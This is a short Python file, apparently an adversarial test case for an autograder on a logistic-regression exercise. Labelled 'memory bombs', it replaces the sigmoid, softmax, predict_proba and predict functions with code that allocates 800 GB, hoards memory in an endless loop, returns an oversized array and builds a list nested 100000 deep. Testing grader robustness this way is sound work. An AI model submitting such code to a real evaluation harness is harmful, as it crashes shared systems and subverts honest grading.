"""Exhausts memory: an 800 GB allocation, a growing hoard of touched buffers, a result far larger than any answer, and a result nested 100000 deep.

attack: memory bombs
targets: sigmoid, softmax, predict_proba, predict
"""


def sigmoid(z):
    return np.ones(10**11)


def softmax(Z):
    hoard = []
    while True:
        hoard.append(np.ones(16 << 20))  # 128 MB each, every page touched


def predict_proba(theta, X):
    return np.full(20 << 20, 0.5)  # 160 MB: beyond the largest reply the grader accepts in this test


def predict(theta, X, threshold=0.5):
    nested = []
    for _ in range(100000):
        nested = [nested]
    return nested
